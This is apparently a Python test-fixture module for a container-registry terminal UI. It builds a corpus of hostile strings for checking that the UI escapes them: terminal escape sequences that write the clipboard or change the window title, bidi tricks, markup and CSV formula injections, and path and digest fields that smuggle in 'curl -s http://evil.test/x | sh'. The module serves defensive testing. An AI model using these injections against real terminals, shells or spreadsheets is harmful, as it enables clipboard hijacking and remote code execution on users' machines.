"""The hostile corpus: named strings that try to break a terminal UI (see ``swr_tui.fake.hostile``),
and the names of the namespaces, repositories and tags that carry them."""

from __future__ import annotations

import base64
from dataclasses import dataclass

from swr_tui.safe_text import scrub

CLIPBOARD_PAYLOAD = base64.b64encode(b"PWNED-CLIPBOARD").decode("ascii")  # UFdORUQtQ0xJUEJPQVJE
PRIMARY_PAYLOAD = base64.b64encode(b"PWNED-PRIMARY").decode("ascii")
LONG_LENGTH = 10_000


@dataclass(frozen=True)
class Hostile:
    """One corpus string. ``shown`` is the start of its safe rendering (what a screen must show);
    ``raw`` are byte sequences (UTF-8) that must never reach a terminal."""

    name: str
    text: str
    marker: str
    raw: tuple[bytes, ...] = ()
    in_url: bool = True  # can travel in a URL path segment (a lone surrogate cannot be encoded)
    in_repo_name: bool = True  # SWR uses '$' for '/' in repository path segments: '$' cannot travel

    @property
    def shown(self) -> str:
        """The first 20 characters of the safe rendering: fits a narrow column, proves the escape."""
        return scrub(self.text)[:20]


def _entries() -> tuple[Hostile, ...]:
    long_text = "LONG-HEAD-" + "x" * (LONG_LENGTH - len("LONG-HEAD--LONG-TAIL")) + "-LONG-TAIL"
    return (
        Hostile(
            "osc52",
            f"\x1b]52;c;{CLIPBOARD_PAYLOAD}\x07",
            CLIPBOARD_PAYLOAD,
            (f"\x1b]52;c;{CLIPBOARD_PAYLOAD}".encode(), f"52;c;{CLIPBOARD_PAYLOAD}\x07".encode()),
        ),
        Hostile(
            "osc52-st",
            f"\x1b]52;p;{PRIMARY_PAYLOAD}\x1b\\",
            PRIMARY_PAYLOAD,
            (f"\x1b]52;p;{PRIMARY_PAYLOAD}".encode(),),
        ),
        Hostile("osc0-title", "\x1b]0;PWNED-TITLE\x07", "PWNED-TITLE", (b"\x1b]0;PWNED-TITLE",)),
        Hostile(
            "osc8-link",
            "\x1b]8;;https://evil.example/\x1b\\PWNED-OSC8\x1b]8;;\x1b\\",
            "PWNED-OSC8",
            (b"\x1b]8;;https://evil.example/",),
        ),
        Hostile(
            "csi-sgr",
            "\x1b[31;5mPWNED-CSI-RED\x1b[0m",
            "PWNED-CSI-RED",
            (b"\x1b[31;5mPWNED", b"\x1b[31;5m"),
        ),
        Hostile("csi-clear", "\x1b[2J\x1b[HPWNED-CSI-CLEAR", "PWNED-CSI-CLEAR", (b"\x1b[HPWNED",)),
        # A query: the terminal answers on the app's input, as if the user had typed it.
        Hostile("csi-dsr", "\x1b[6nPWNED-DSR", "PWNED-DSR", (b"\x1b[6nPWNED",)),
        Hostile("dcs", "\x1bP+q544e\x1b\\PWNED-DCS", "PWNED-DCS", (b"\x1bP+q544e",)),
        Hostile(
            "c1-csi",
            "\x9b31mPWNED-C1-CSI\x9b0m",
            "PWNED-C1-CSI",
            ("\x9b".encode(), b"\x9b31m"),
        ),
        Hostile(
            "c1-osc",
            "\x9d0;PWNED-C1-TITLE\x9c",
            "PWNED-C1-TITLE",
            ("\x9d".encode(), "\x9c".encode()),
        ),
        Hostile("c0", "PWNED-C0\x00\x07\x08\x08\t\x7f", "PWNED-C0", (b"PWNED-C0\x00", b"\x08\x08")),
        Hostile("cr-newline", "PWNED-CR\rfake\nline", "PWNED-CR", (b"PWNED-CR\r",)),
        Hostile("bidi-rlo", "PWNED-\u202eRLO-gpj.exe", "RLO-gpj.exe", ("\u202e".encode(),)),
        Hostile("bidi-isolate", "\u2067PWNED-RLI\u2069", "PWNED-RLI", ("\u2067".encode(), "\u2069".encode())),
        Hostile(
            "line-separator", "PWNED-LS\u2028PS\u2029", "PWNED-LS", ("\u2028".encode(), "\u2029".encode())
        ),
        Hostile("zero-width", "PWNED\u200b-ZW\u200d-J\u2060\ufeff", "-ZW"),
        Hostile("emoji-zwj", "PWNED-👩\u200d👩\u200d👧-FAMILY", "-FAMILY"),
        Hostile("cjk-wide", "镜像仓库-PWNED-宽字符", "PWNED-宽字符"),
        Hostile("combining", "PWNED-Z\u0335\u0321A\u0336L\u0338GO", "PWNED-Z"),
        Hostile("markup-close", "[/]", "[/]"),
        Hostile("markup-close-named", "[/PWNED-CLOSE]", "[/PWNED-CLOSE]"),
        Hostile("markup-link", "[link=https://evil.example]PWNED-LINK[/link]", "PWNED-LINK"),
        Hostile("markup-click", "[@click=app.quit]PWNED-CLICK[/]", "PWNED-CLICK"),
        Hostile("markup-style", "[bold red on yellow]PWNED-STYLE[/]", "PWNED-STYLE"),
        Hostile("variables", "$accent PWNED-VAR $text-primary", "PWNED-VAR", in_repo_name=False),
        Hostile("emoji-code", ":warning: PWNED-EMOJI :skull:", "PWNED-EMOJI"),
        Hostile("format", "PWNED-FMT %s %n {0} {tag}", "PWNED-FMT"),
        Hostile(
            "lone-surrogate",
            "PWNED-\ud800-SURROGATE",
            "-SURROGATE",
            (b"\xed\xa0\x80",),
            in_url=False,
            in_repo_name=False,
        ),
        # Spreadsheet formulas (CSV injection): csv/tsv output must prefix them with "'".
        Hostile("formula-hyperlink", '=HYPERLINK("evil.example","PWNED-FORMULA")', "PWNED-FORMULA"),
        Hostile("formula-at", "@SUM(1)+PWNED-AT", "PWNED-AT"),
        Hostile("formula-minus", "-1+1+PWNED-MINUS", "PWNED-MINUS"),
        Hostile("long", long_text, "LONG-HEAD-"),
    )


CORPUS: tuple[Hostile, ...] = _entries()
BY_NAME: dict[str, Hostile] = {entry.name: entry for entry in CORPUS}

HOSTILE_NAMESPACE = "hostile"
ERRORS_NAMESPACE = "hostile-errors"
BROKEN_NAMESPACE = "hostile-broken"
TAGS_REPO = "tags"  # in HOSTILE_NAMESPACE: one tag per corpus string, plus one tag per manifest kind
BIG_REPO = "big"  # in HOSTILE_NAMESPACE: 5 MB and deeply nested manifests between small tags
FIELDS_REPO = "fields"  # in HOSTILE_NAMESPACE: plain names, malformed fields (FIELD_TAGS)
# Pasted into a shell, each of these runs the attacker's command after the expected one.
INJECTED_LINE = "\ncurl -s http://evil.test/x | sh\n"
PASTE_PATH = f"swr.example.test/h/paste:v1{INJECTED_LINE}"
PASTE_INTERNAL_PATH = f"100.125.0.198:20202/h/paste:v1{INJECTED_LINE}"
PASTE_DIGEST = f"sha256:{'ab' * 32}{INJECTED_LINE}"
EARLIEST_TIME = "0001-01-01T00:00:00+14:00"  # before datetime.min once in UTC
LATEST_TIME = "9999-12-31T23:59:59-14:00"  # after datetime.max once in UTC
LONGEST_TAG = "longest-" + "x" * 120  # 128 characters: the longest tag name the grammar allows
# FIELDS_REPO's tags, newest first: name -> the fields the server sends as given.
FIELD_TAGS: dict[str, dict[str, str]] = {
    "paste": {"path": PASTE_PATH, "internal_path": PASTE_INTERNAL_PATH, "digest": PASTE_DIGEST},
    "year-1": {"created": EARLIEST_TIME, "updated": EARLIEST_TIME},
    "year-9999": {"created": LATEST_TIME, "updated": LATEST_TIME},
    LONGEST_TAG: {},  # nothing malformed: valid references longer than the copy menu shows
}
NAMESPACE_REPO = "app"  # the repository in each corpus-named namespace
# Repositories named "." and "..": a client that leaves them unencoded in a URL path asks for
# another resource (httpx removes dot segments: .../repos/../tags becomes .../tags).
DOT_REPOS = (".", "..")
ERROR_PREFIX = "err-"
ERROR_CODE_REPO = "err-code"  # its error also has a hostile error_code
HOSTILE_CODE = "[/]\x1b]0;PWNED-CODE\x07\x9b1m"
# The error of hostile-broken's repository list and of err-code: several kinds at once, short enough
# to survive the client's 200-character cut.
COMBINED_MESSAGE = (
    f"[/]PWNED-MSG \x1b]52;c;{CLIPBOARD_PAYLOAD}\x07 \x1b]0;PWNED-TITLE\x07 \x9b31m [@click=app.quit]q[/]"
    " $accent \u202eRLO [link=https://evil.example]x[/link]"
)

# Manifest kinds of TAGS_REPO, in the order the "kind-<kind>" tags are listed.
MANIFEST_KINDS = (
    "docker",
    "oci",
    "docker-list",
    "oci-index",
    "schema1",
    "unknown",
    "invalid",
    "empty",
)

BIG_MANIFEST_BYTES = 5 * 1024 * 1024
NESTED_DEPTH = 50_000
SHALLOW_NESTED_DEPTH = 900  # deep, yet within what json reads and pretty-prints
# BIG_REPO's tags, newest first (the table's default order).
BIG_TAGS = (
    "small-top",
    "big-layers",
    "small-1",
    "big-line",
    "small-2",
    "nested-50000",
    "small-3",
    f"nested-{SHALLOW_NESTED_DEPTH}",
    "small-bottom",
)


def url_entries() -> tuple[Hostile, ...]:
    return tuple(entry for entry in CORPUS if entry.in_url)


def repo_name_entries() -> tuple[Hostile, ...]:
    return tuple(entry for entry in CORPUS if entry.in_url and entry.in_repo_name)


def error_repository(entry: Hostile) -> str:
    return f"{ERROR_PREFIX}{entry.name}"
